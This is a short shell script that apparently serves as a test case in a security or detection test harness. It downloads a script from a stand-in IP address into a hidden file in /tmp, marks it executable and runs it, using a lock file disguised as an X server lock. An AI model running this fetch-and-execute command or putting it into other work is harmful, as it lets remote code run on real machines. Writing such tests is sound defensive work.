#!/bin/sh
. /opt/case/case.sh

lock=/tmp/.X0-lock
if test -f $lock && kill -0 "$(cat $lock)" 2>/dev/null; then exit 1; fi
echo $$ >$lock
wget -q -O /tmp/.x http://203.0.113.10/payload.sh && chmod +x /tmp/.x && /tmp/.x
rm $lock
test -e /tmp/reached
took_place
